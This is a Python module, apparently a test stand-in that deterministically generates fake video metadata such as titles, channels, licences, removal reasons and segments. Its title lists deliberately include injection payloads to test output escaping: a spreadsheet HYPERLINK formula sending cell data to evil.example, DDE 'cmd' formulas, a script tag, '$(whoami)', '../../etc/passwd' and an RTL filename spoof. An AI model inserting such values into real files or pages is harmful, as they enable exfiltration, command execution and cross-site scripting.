"""The truth about every video: seeded, the same in every process, nothing kept per id.

Golden datasets and folders of earlier versions in `tests/` are made from this world. So nothing
that is drawn here may change for settings that exist: not the bits a fact is taken from, not the
order of draws, not a title.
"""

from __future__ import annotations

import random
from base64 import urlsafe_b64encode
from functools import cached_property
from hashlib import blake2b
from itertools import accumulate
from math import exp, log
from typing import NamedTuple

from ascc_async.model import License, Reason
from ascc_async.standin.world_settings import WorldSettings

GONE = frozenset(
    {Reason.REMOVED, Reason.PRIVATE, Reason.ACCOUNT_TERMINATED, Reason.COPYRIGHT_CLAIM}
)
SIGNING_IN_HELPS = frozenset({Reason.SIGN_IN_REQUIRED, Reason.AGE_RESTRICTED})
CHANNELS = 397  # fewer than videos, so that channels have several; prime, so that they mix
# Shares of the world's own list: each reason that YouTube can cause occurs, in small worlds too.
_SPECIAL = (
    ("removed", 0.04), ("private", 0.035), ("account_terminated", 0.027), ("copyright_claim", 0.02),
    ("country_restricted", 0.02), ("sign_in_required", 0.014), ("age_restricted", 0.02),
    ("members_only", 0.02), ("live", 0.027), ("no_audio", 0.014), ("too_short", 0.027),
    ("silent", 0.02), ("corrupt", 0.014), ("license_unknown", 0.02), ("license_changed", 0.02),
)  # fmt: skip


# Titles and channels: most plain, a good share with everything that breaks careless programs.
_THINGS = (
    "Morning rain on a tin roof", "Street band in the old town", "Dog and seagulls at the beach",
    "How to tune a hurdy-gurdy", "Steam engine passing", "Church bells at noon", "My first song",
    "Lecture 4: Sound and society", "Fireworks over the harbour", "Cat purrs for ten minutes",
    "Workshop: sharpening a plane", "Train horn compilation", "Crowd at the derby",
    "Baby laughs at paper", "Thunder in the mountains", "Live at the town hall",
)  # fmt: skip
# Quotes, line ends, formulas, markup, escapes, right to left, whatever ends up in a CSV.
_AWKWARD = (
    'He said "listen", then left', "commas, commas, and; semicolons", "two\nlines\r\nor three",
    "😀🎸 emoji 👩‍👩‍👧‍👦 family 🇨🇭", "مرحبا بالعالم — صوت", "שלום עולם \u202eevil.exe",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+41 79 000 00 00 call me",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\ttab first",
    "<script>alert('x')</script><b>bold</b> &amp; &lt;", "\x1b[31mred\x1b[0m\x1b]0;title\x07 bell",
    "日本語のタイトル「音」", "Ünïcödé ñandú Ǆ ﬀ", "back\\slash 'quote' `tick` $(whoami) ${HOME}",
    "../../etc/passwd", "%s %d {0} {title} %(id)s", "nul\u2028line\u2029separators\u00a0nbsp",
    "e\u0301 combining vs é", "trailing spaces   ", "# heading | table | *bold* [link](http://x)",
    "long " * 200 + "end",
)  # fmt: skip
_WHO = (
    "North Shore Recordings", "Anna & the Field Mice", "Harbour Radio", "Prof. R. Okafor",
    "Tiny Workshop", "The Berry Hill Choir", "Railfan 52", "Slow Television",
)  # fmt: skip
_AWKWARD_WHO = (
    "O'Brien, \"Sons\" & Daughters", "قناة الأصوات", "=1+1", "🎧", "<i>Studio</i>", "チャンネル音",
    "line\nbreak TV", "\x1b[2Jclear", "x" * 99,
)  # fmt: skip


class Video(NamedTuple):
    """What is true of one video.

    `kind` is "creative_commons", "standard", or a reason's value. `license` is what an honest
    page tells; `reason` what keeps its clip from being made. `segment_…_ms`: the segment that the
    world's own metadata names. `number` is the seed of everything else about it.
    """

    video_id: str
    kind: str
    license: License
    reason: Reason | None
    number: int
    title: str
    channel: str
    channel_id: str
    handle: str
    length_ms: int
    published: str
    views: int
    sample_rate: int
    channels: int
    itags: tuple[int, ...]
    segment_start_ms: int
    segment_end_ms: int

    @property
    def upcoming(self) -> bool:
        """A live event that has not begun (the other half is on air)."""
        return self.reason is Reason.LIVE and self.number % 2 == 1


class World:
    """Knows the truth of any 11-character id."""

    def __init__(self, settings: WorldSettings) -> None:
        self.settings = settings
        self._key = b"standin" + settings.seed.to_bytes(8, "big", signed=True)
        self._own = _own_kinds(settings)
        self._known = {
            **self._own,
            **dict.fromkeys(settings.known_creative_commons, "creative_commons"),
            **dict.fromkeys(settings.known_standard, "standard"),
        }
        shares = {kind: share for kind, share in settings.shares.model_dump().items() if share}
        self._thresholds = tuple(zip(accumulate(shares.values()), shares, strict=True))
        digests = (
            blake2b(b"channel%d" % number, key=self._key, digest_size=16).digest()
            for number in range(CHANNELS)
        )
        self._channel_ids = ["UC" + urlsafe_b64encode(digest).decode()[:22] for digest in digests]
        low, high = (max(bound, 1.0) for bound in settings.length_seconds)
        self._shortest = log(max(low, min(12.0, high)))
        self._longest = log(high)

    @cached_property
    def videos(self) -> tuple[Video, ...]:
        """The world's own list, in a stable order."""
        return tuple(self.video(video_id) for video_id in self._own)

    def video(self, video_id: str) -> Video:
        """The whole truth of one video."""
        # Keyed by the seed: `hash()` and `random` would differ between processes or versions.
        digest = blake2b(video_id.encode(), key=self._key, digest_size=8).digest()
        number = int.from_bytes(digest, "big")
        kind = self._known.get(video_id)
        if kind is None:
            drawn = (number & 0xFFFFFFFF) / 2**32
            kind = next((kind for limit, kind in self._thresholds if drawn < limit), "standard")
        license_ = _FIXED_LICENSE.get(kind, License.CREATIVE_COMMONS)
        if kind == "license_changed" and self.settings.licenses_changed:
            license_ = License.STANDARD
        if kind in ("too_short", "no_audio"):
            length_ms = 3_000 + (number >> 32) % 5_000
        else:
            # Logarithmic: mostly short, some of ten minutes.
            drawn = ((number >> 32) & 0xFFFFFF) / 2**24
            length_ms = int(1000 * exp(self._shortest + drawn * (self._longest - self._shortest)))
        # Every stream that there is, pictures too; one video in four has only one kind of sound.
        which = (number >> 9) % 8
        itags = ((140, 160), (251, 160))[which] if which < 2 else (140, 251, 134, 160)
        start_ms = _segment_start_ms(number, kind, length_ms)
        title = f"{_THINGS[(number >> 20) % len(_THINGS)]} ({video_id})"
        if (number >> 20) % 3 == 0:
            title = _AWKWARD[(number >> 20) // 3 % len(_AWKWARD)]
        who = (number >> 16) % CHANNELS
        channel = f"{_WHO[who % len(_WHO)]} {who % 97}"
        if who % 4 == 0:
            channel = _AWKWARD_WHO[who // 4 % len(_AWKWARD_WHO)]
        # The own list stays at one rate: its media is encoded before a first demo can go on.
        rare_rate = (number >> 5) % 4 == 0 and video_id not in self._own
        return Video(
            video_id=video_id,
            kind=kind,
            license=license_,
            reason=_REASONS.get(kind),
            number=number,
            title=title,
            channel=channel,
            channel_id=self._channel_ids[who],
            handle=f"@channel{who}",
            length_ms=length_ms,
            published=f"{2006 + (number >> 8) % 19}-{1 + (number >> 13) % 12:02}"
            f"-{1 + (number >> 17) % 28:02}",
            views=(number >> 24) % 5_000_000,
            sample_rate=48_000 if rare_rate else 44_100,
            channels=(2, 1)[(number >> 7) % 4 == 0],
            itags=(160,) if kind == "no_audio" else itags,
            segment_start_ms=start_ms,
            segment_end_ms=start_ms + 10_000,
        )


_REASONS = {reason.value: reason for reason in Reason}
_FIXED_LICENSE = {
    **{reason.value: License.UNAVAILABLE for reason in GONE},
    "standard": License.STANDARD,
    "license_unknown": License.UNKNOWN,
}


def _own_kinds(settings: WorldSettings) -> dict[str, str]:
    """The world's own list with each video's kind; some ids begin with `-` and `_`, as real ones.

    Ids are drawn after the kinds were shuffled, from the same generator.
    """
    count, rng = settings.videos, random.Random(f"own {settings.seed}")
    kinds = [kind for kind, share in _SPECIAL for _ in range(max(1, round(count * share)))]
    plain = round(count * settings.creative_commons_share)
    kinds = (kinds + ["creative_commons"] * plain + ["standard"] * count)[:count]
    # Shuffled, so that every stretch of the list has a bit of everything.
    rng.shuffle(kinds)
    ids: dict[str, None] = {}
    while len(ids) < count:
        drawn = urlsafe_b64encode(rng.randbytes(8)).decode()[:11]
        first = "-_"[len(ids) % 2] if len(ids) % 16 < 2 else drawn[0]
        ids[first + drawn[1:]] = None
    return dict(zip(ids, kinds, strict=True))


def _segment_start_ms(number: int, kind: str, length_ms: int) -> int:
    """Of ten seconds; one segment in eight runs past the video's end, one in nine starts at .5."""
    if kind == "too_short":
        start = 30_000  # its video lasts eight seconds at most
    else:
        last = max(0, length_ms - (3_000 if (number >> 3) % 8 == 0 else 10_000))
        start = int(((number >> 40) & 0xFFFF) / 2**16 * (last + 1)) // 1000 * 1000
    # Starts at half a second: formats and cutters that think in whole ones go wrong there.
    return start + (500 if (number >> 11) % 9 == 0 and start + 500 < length_ms else 0)
